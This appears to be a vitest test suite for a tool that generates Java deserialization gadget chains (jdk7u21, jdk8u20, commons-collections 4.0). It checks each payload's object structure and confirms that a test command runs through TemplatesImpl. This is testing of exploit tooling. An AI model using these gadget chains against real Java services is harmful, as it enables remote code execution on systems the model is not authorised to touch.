import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { evaluate } from '../testing/evaluate.js';
import { appears, hasJar, hasJava, JARS, readWithJava } from '../testing/java.js';
import {
  annotationsOf,
  type Content,
  describeContent,
  fieldOf,
  readJavaStream,
} from '../testing/java-stream.js';
import { scratchFolder } from '../testing/scratch-folder.js';
import { commonsCollections40Gadget, jdk7u21Gadget, jdk8u20Gadget } from './java-templates-gadgets.js';

const TEMPLATES_IMPL = 'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl';
const HANDLER = 'sun.reflect.annotation.AnnotationInvocationHandler';
const markerIn = () => join(scratchFolder('gadget'), 'ran');

/** The one top-level object of a gadget, read by the grammar to the stream's last byte. */
function only(payload: Buffer): Content {
  const contents = readJavaStream(payload);
  expect(contents).toHaveLength(1);
  return contents[0] as Content;
}

/** The elements a LinkedHashSet's HashSet.writeObject wrote after capacity, load factor and size. */
function setElements(set: Content): readonly Content[] {
  const [block, ...elements] = annotationsOf(set, 'java.util.HashSet');
  expect(block?.kind === 'block' && block.bytes.toString('hex')).toBe('000000103f40000000000002');
  return elements;
}

/** The handler's map: "f5a5a608" (hash 0) to the set's TemplatesImpl, and its type Templates. */
function expectTemplatesHandler(handler: Content | undefined, templates: Content | undefined): void {
  expect(describeContent(handler)).toBe(HANDLER);
  const [, key, value] = annotationsOf(fieldOf(handler, HANDLER, 'memberValues'), 'java.util.HashMap');
  expect(describeContent(key)).toBe('"f5a5a608"');
  expect(value?.kind === 'reference' && value.target).toBe(templates);
  expect(describeContent(fieldOf(handler, HANDLER, 'type'))).toBe('class javax.xml.transform.Templates');
}

describe('generate_java_gadget("jdk7u21", …)', () => {
  it('is a LinkedHashSet of the TemplatesImpl and a Templates proxy whose handler maps a zero-hash key to it', () => {
    const [templates, proxy] = setElements(only(jdk7u21Gadget('id')));
    expect(describeContent(templates)).toBe(TEMPLATES_IMPL);
    expect(describeContent(proxy)).toBe('proxy(javax.xml.transform.Templates)');
    expectTemplatesHandler(fieldOf(proxy, 'java.lang.reflect.Proxy', 'h') as Content, templates);
  });

  it.skipIf(!hasJava)(
    'is read by JDK 17 up to the handler, which JDK 7u25 and later refuse; its TemplatesImpl runs the command',
    async () => {
      const marker = markerIn();
      const encoded = evaluate(`generate_java_gadget("jdk7u21", "touch ${marker}", "base64-raw")`) as string;
      const report = readWithJava(Buffer.from(encoded, 'base64'), { transform: true });
      expect(report.slice(0, -2)).toEqual([
        'class java.util.LinkedHashSet',
        'class java.util.HashSet',
        `class ${TEMPLATES_IMPL}`,
        'class [[B',
        'class [B',
        'proxy javax.xml.transform.Templates',
        'class java.lang.reflect.Proxy',
        `class ${HANDLER}`,
        'class java.util.HashMap',
        'class javax.xml.transform.Templates',
      ]);
      expect(report.at(-2)).toBe(
        `refused java.io.InvalidObjectException: Non-annotation type in annotation serial stream in ${HANDLER}`,
      );
      expect(await appears(marker)).toBe(true);
    },
    90_000,
  );
});

describe('generate_java_gadget("jdk8u20", …)', () => {
  it('reads the handler inside a BeanContextSupport in a dummy field of the proxy, then refers to it', () => {
    const [templates, proxy] = setElements(only(jdk8u20Gadget('id')));
    expect(describeContent(templates)).toBe(TEMPLATES_IMPL);
    const context = fieldOf(proxy, 'java.lang.reflect.Proxy', 'dummy') as Content;
    expect(describeContent(context)).toBe('java.beans.beancontext.BeanContextSupport');
    const peer = fieldOf(context, 'java.beans.beancontext.BeanContextChildSupport', 'beanContextChildPeer');
    expect(typeof peer === 'object' && peer.kind === 'reference' && peer.target).toBe(context);
    expect(fieldOf(context, 'java.beans.beancontext.BeanContextSupport', 'serializable')).toBe(1);
    const [child, listeners, ...rest] = annotationsOf(context, 'java.beans.beancontext.BeanContextSupport');
    expectTemplatesHandler(child, templates);
    expect(listeners?.kind === 'block' && listeners.bytes.toString('hex')).toBe('00000000');
    expect(rest).toEqual([]);
    const handler = fieldOf(proxy, 'java.lang.reflect.Proxy', 'h');
    expect(typeof handler === 'object' && handler.kind === 'reference' && handler.target).toBe(child);
  });

  it.skipIf(!hasJava)(
    'is read by JDK 17 through the BeanContextSupport to the handler, refused there; its TemplatesImpl runs the command',
    async () => {
      const marker = markerIn();
      const report = readWithJava(jdk8u20Gadget(`touch ${marker}`), { transform: true });
      expect(report.slice(5, -2)).toEqual([
        'proxy javax.xml.transform.Templates',
        'class java.lang.reflect.Proxy',
        'class java.beans.beancontext.BeanContextSupport',
        'class java.beans.beancontext.BeanContextChildSupport',
        `class ${HANDLER}`,
        'class java.util.HashMap',
        'class javax.xml.transform.Templates',
      ]);
      // later JDKs no longer swallow the refusal of a child a BeanContextSupport reads
      expect(report.at(-2)).toMatch(/^refused java\.io\.InvalidObjectException: Non-annotation type/);
      expect(await appears(marker)).toBe(true);
    },
    90_000,
  );
});

describe('generate_java_gadget("commons-collections4.0", …)', () => {
  const CC4 = 'org.apache.commons.collections4';

  it('is a PriorityQueue of two values compared through a TrAXFilter made of the TemplatesImpl', () => {
    const queue = only(commonsCollections40Gadget('id'));
    expect(fieldOf(queue, 'java.util.PriorityQueue', 'size')).toBe(2);
    const [length, first, second] = annotationsOf(queue, 'java.util.PriorityQueue');
    expect(length?.kind === 'block' && length.bytes.readInt32BE(0)).toBe(3);
    expect(describeContent(first)).toBe('java.lang.Integer');
    expect(second?.kind === 'reference' && second.target).toBe(first);
    const comparator = fieldOf(queue, 'java.util.PriorityQueue', 'comparator');
    const chain = fieldOf(
      fieldOf(comparator, `${CC4}.comparators.TransformingComparator`, 'transformer'),
      `${CC4}.functors.ChainedTransformer`,
      'iTransformers',
    );
    const [constant, instantiate] =
      typeof chain === 'object' && chain.kind === 'array' ? (chain.elements as Content[]) : [];
    expect(describeContent(fieldOf(constant, `${CC4}.functors.ConstantTransformer`, 'iConstant'))).toBe(
      'class com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter',
    );
    const args = fieldOf(instantiate, `${CC4}.functors.InstantiateTransformer`, 'iArgs');
    expect(
      typeof args === 'object' && args.kind === 'array' && (args.elements as Content[]).map(describeContent),
    ).toEqual([TEMPLATES_IMPL]);
  });

  it.skipIf(!hasJar(JARS.commonsCollections4))(
    "is read with Debian's commons-collections4 (4.2) up to InstantiateTransformer, which 4.1 made unserializable",
    () => {
      // the library the gadget needs (4.0) is not in Debian: its last step is proven by the TemplatesImpl tests
      const report = readWithJava(commonsCollections40Gadget('id'), { jars: [JARS.commonsCollections4] });
      expect(report).toEqual([
        'class java.util.PriorityQueue',
        `class ${CC4}.comparators.TransformingComparator`,
        `class ${CC4}.comparators.ComparableComparator`,
        `class ${CC4}.functors.ChainedTransformer`,
        `class [L${CC4}.Transformer;`,
        `class ${CC4}.functors.ConstantTransformer`,
        'class com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter',
        `class ${CC4}.functors.InstantiateTransformer`,
        expect.stringMatching(
          /^refused java\.io\.InvalidClassException: .*InstantiateTransformer; class invalid for deserialization/,
        ),
      ]);
    },
    90_000,
  );
});
